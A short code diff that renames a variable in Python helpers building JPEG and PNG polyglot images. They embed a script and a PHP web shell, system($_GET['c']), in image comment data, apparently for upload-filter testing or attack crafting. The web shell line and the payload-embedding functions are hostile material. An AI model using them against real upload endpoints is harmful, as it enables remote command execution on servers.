@@ -23,8 +23,8 @@ SHELL = b"<?php system($_GET['c']); ?>"
 
 
 def jpeg_with_comment(photo: bytes) -> bytes:
-    said = SCRIPT + SHELL
-    return photo[:2] + b"\xff\xfe" + struct.pack(">H", len(said) + 2) + said + photo[2:]
+    comment = SCRIPT + SHELL
+    return photo[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + photo[2:]
 
 
 def jpeg_and_zip(photo: bytes) -> bytes:
@@ -41,8 +41,8 @@ def jpeg_and_page(photo: bytes) -> bytes:
 def png_with_chunk(photo: bytes) -> bytes:
     out = io.BytesIO()
     Image.open(io.BytesIO(photo)).convert("RGB").save(out, "PNG")
-    png, said = out.getvalue(), b"tEXtComment\0" + SCRIPT + SHELL
-    chunk = struct.pack(">I", len(said) - 4) + said + struct.pack(">I", zlib.crc32(said))
+    png, comment = out.getvalue(), b"tEXtComment\0" + SCRIPT + SHELL
+    chunk = struct.pack(">I", len(comment) - 4) + comment + struct.pack(">I", zlib.crc32(comment))
     return png[:33] + chunk + png[33:]
 
 
